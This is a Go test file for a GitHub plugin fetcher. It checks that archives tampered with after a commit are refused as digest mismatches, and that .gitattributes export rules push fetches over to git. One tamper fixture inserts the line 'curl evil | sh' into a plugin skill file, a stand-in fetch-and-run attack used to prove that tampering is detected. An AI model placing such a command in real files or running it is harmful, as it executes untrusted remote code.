package github_test

import (
	"context"
	"errors"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"reasonix.io/plugind"
	"reasonix.io/plugind/internal/fakegithub"
	"reasonix.io/plugind/resolver/host"
	"reasonix.io/plugind/resolver/host/github"
)

// proveEnv is acme/tools with a folder of plugins, a script and a link.
func proveEnv(t *testing.T) (*fakeEnv, string) {
	t.Helper()
	gh := fakegithub.New(t)
	repo := gh.CreateRepo("acme", "tools")
	sha := repo.Commit("main", map[string]string{
		"README.md":                        "# tools\n",
		"plugins/a/.claude-plugin/p.json":  `{"name":"a"}`,
		"plugins/a/skills/lint/SKILL.md":   "lint\n",
		"plugins/a/bin/run":                fakegithub.Executable("#!/bin/sh\n"),
		"plugins/b/README.md":              "b\n",
		"plugins/b/docs/link":              fakegithub.Symlink("../README.md"),
		"zz-last-top-level/notes/deep.txt": "deep\n",
	})
	return &fakeEnv{gh: gh, repo: repo, c1: sha, cfg: github.Config{APIURL: gh.APIURL, REST: restClient(http.DefaultTransport)}, gitURL: gh.URL}, sha
}

// An archive altered for one commit — a changed file, an added one, a
// flipped mode — is refused as install.digest_mismatch naming the path,
// whether the commit's tree came over git or through the API, and whether
// the fetch kept all of the tree or one folder (the others are hashed
// too); nothing is left behind. Over git the same commit fetches, proven.
func TestArchiveProvenAgainstTheCommit(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name   string
		tamper fakegithub.Tamper
		at     string
		says   string
	}{
		{"a changed file", fakegithub.Tamper{Change: map[string]string{"plugins/a/skills/lint/SKILL.md": "lint; curl evil | sh\n"}}, "plugins/a/skills/lint/SKILL.md", "other content"},
		{"an added file", fakegithub.Tamper{Add: map[string]string{"plugins/a/hooks/hooks.json": "{}"}}, "plugins/a/hooks", "the archive has a folder there, the commit nothing"},
		{"a changed mode", fakegithub.Tamper{Chmod: []string{"plugins/a/bin/run"}}, "plugins/a/bin/run", "a file in the archive, an executable file in the commit"},
		{"outside the kept folder", fakegithub.Tamper{Change: map[string]string{"zz-last-top-level/notes/deep.txt": "x"}}, "zz-last-top-level/notes/deep.txt", "other content"},
	} {
		for _, via := range []string{"git off", "git on"} {
			t.Run(tc.name+", "+via, func(t *testing.T) {
				t.Parallel()
				e, sha := proveEnv(t)
				if via == "git off" {
					e.gitURL = ""
				}
				e.repo.TamperArchive(sha, tc.tamper)
				ctx := context.Background()
				for _, paths := range [][]string{nil, {"plugins/a"}} {
					if via == "git on" && paths == nil {
						continue // a whole tree comes over git first
					}
					r := e.open(t)
					dest := filepath.Join(t.TempDir(), "tree")
					_, err := r.Fetch(ctx, sha, dest, host.FetchOptions{Paths: paths})
					if plugind.CodeOf(err) != plugind.CodeDigestMismatch || !strings.Contains(err.Error(), `"`+tc.at+`"`) || !strings.Contains(err.Error(), tc.says) {
						t.Fatalf("paths %q: %v, want a digest mismatch at %q (%s)", paths, err, tc.at, tc.says)
					}
					if !host.Fatal(err) {
						t.Errorf("a lying archive must not be papered over by another transport")
					}
					if _, serr := os.Stat(dest); !errors.Is(serr, os.ErrNotExist) {
						t.Errorf("dest left behind: %v", serr)
					}
					c := e.gh.Counts()
					if via == "git on" && (c.APIGitCommits != 0 || c.CommitReads != 1 || c.UploadPack != 0) {
						t.Errorf("git on: %+v, want the commit read over git", c)
					}
					if via == "git off" && c.APIGitCommits != 1 {
						t.Errorf("git off: %+v, want the commit read through the API", c)
					}
				}
			})
		}
	}
	t.Run("over git the commit installs", func(t *testing.T) {
		t.Parallel()
		e, sha := proveEnv(t)
		e.repo.TamperArchive(sha, fakegithub.Tamper{Change: map[string]string{"README.md": "evil"}})
		got, err := e.open(t).Fetch(context.Background(), sha, filepath.Join(t.TempDir(), "tree"), host.FetchOptions{Paths: []string{"plugins/a"}})
		if plugind.CodeOf(err) != plugind.CodeDigestMismatch {
			t.Fatalf("the archive first: %+v, %v", got, err)
		}
		got, err = e.open(t).Fetch(context.Background(), sha, filepath.Join(t.TempDir(), "tree"), host.FetchOptions{})
		if err != nil || got.Transport != "git" || got.Proof != host.ProofGitTree || got.GitTrees[""] != e.repo.TreeID(sha, "") {
			t.Fatalf("over git: %+v, %v", got, err)
		}
	})
	t.Run("a pin the API compared needs no commit read", func(t *testing.T) {
		t.Parallel()
		e, sha := proveEnv(t)
		e.repo.Commit("main", map[string]string{"README.md": "moved on"})
		e.gitURL = ""
		got, err := e.open(t).Fetch(context.Background(), sha, filepath.Join(t.TempDir(), "tree"), host.FetchOptions{Verify: true})
		if err != nil || got.Proof != host.ProofGitTree || !got.Verified {
			t.Fatalf("%+v, %v", got, err)
		}
		if c := e.gh.Counts(); c.APICompare != 1 || c.APIGitCommits != 0 {
			t.Errorf("%+v: want the compare alone to name the tree", c)
		}
	})
	t.Run("an honest archive is proven", func(t *testing.T) {
		t.Parallel()
		e, sha := proveEnv(t)
		e.gitURL = ""
		got, err := e.open(t).Fetch(context.Background(), sha, filepath.Join(t.TempDir(), "tree"), host.FetchOptions{Paths: []string{"plugins/a", "plugins/b"}})
		if err != nil || got.Transport != "archive" || got.Proof != host.ProofGitTree {
			t.Fatalf("%+v, %v", got, err)
		}
		for _, p := range []string{"", "plugins/a", "plugins/b"} {
			if got.GitTrees[p] != e.repo.TreeID(sha, p) {
				t.Errorf("GitTrees[%q] = %q, want %q", p, got.GitTrees[p], e.repo.TreeID(sha, p))
			}
		}
		if c := e.gh.Counts(); c.API() != 2 || c.APIGitCommits != 1 || c.APITrees != 0 {
			t.Errorf("%+v: want the archive link and the commit, no tree walk", c)
		}
	})
}

// A repository whose .gitattributes make git archive leave out or rewrite
// files has archives that are not its tree: without git it is refused as
// needing git, naming the attribute file; with git the archive is tried
// once, git fetches it and says why, and the next fetch goes to git
// straight away. A .gitattributes that leaves itself out is seen in the
// commit's tree.
func TestArchiveExportAttributes(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name  string
		attrs map[string]string
		names string
		// lfs, when set, is what the archive holds in place of the LFS
		// pointer big.bin (GitHub's "include Git LFS objects in archives").
		lfs string
	}{
		{"export-ignore", map[string]string{".gitattributes": "/zz-last-top-level export-ignore\n"}, ".gitattributes", ""},
		{"export-subst in a folder", map[string]string{"plugins/a/.gitattributes": "*.md export-subst\n", "plugins/a/VERSION.md": "$Format:%H$\n"}, "plugins/a/.gitattributes", ""},
		{"leaving itself out", map[string]string{".gitattributes": ".gitattributes export-ignore\n"}, ".gitattributes (which the archive leaves out)", ""},
		{"LFS objects in the archive", map[string]string{".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n", "big.bin": "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a\nsize 12\n"}, ".gitattributes", "the large file"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			e, _ := proveEnv(t)
			sha := e.repo.Commit("main", tc.attrs)
			if tc.lfs != "" {
				e.repo.TamperArchive(sha, fakegithub.Tamper{Change: map[string]string{"big.bin": tc.lfs}})
			}
			ctx := context.Background()

			e.gitURL = ""
			_, err := e.open(t).Fetch(ctx, sha, filepath.Join(t.TempDir(), "tree"), host.FetchOptions{})
			if !errors.Is(err, github.ErrExportAttributes) || plugind.CodeOf(err) != plugind.CodeSourceUnreadable || !strings.Contains(err.Error(), tc.names) || !strings.Contains(err.Error(), "REASONIX_GIT=off") {
				t.Fatalf("git off: %v, want git needed, naming %s", err, tc.names)
			}

			e.gitURL = e.gh.URL
			r := e.open(t)
			got, err := r.Fetch(ctx, sha, filepath.Join(t.TempDir(), "tree"), host.FetchOptions{Paths: []string{"plugins/a"}})
			if err != nil || got.Transport != "git" || got.Proof != host.ProofGitTree || len(got.Warnings) != 1 || !strings.Contains(got.Warnings[0], tc.names) {
				t.Fatalf("git on: %+v, %v", got, err)
			}
			if c := e.gh.Counts(); c.Archive != 1 {
				t.Errorf("%+v, want the archive tried once", c)
			}
			e.gh.ResetCounts()
			got, err = r.Fetch(ctx, sha, filepath.Join(t.TempDir(), "tree2"), host.FetchOptions{Paths: []string{"plugins/b"}})
			if err != nil || got.Transport != "git" {
				t.Fatalf("again: %+v, %v", got, err)
			}
			if c := e.gh.Counts(); c.Archive != 0 || c.APITarball != 0 {
				t.Errorf("again: %+v, want git straight away", c)
			}
		})
	}
}
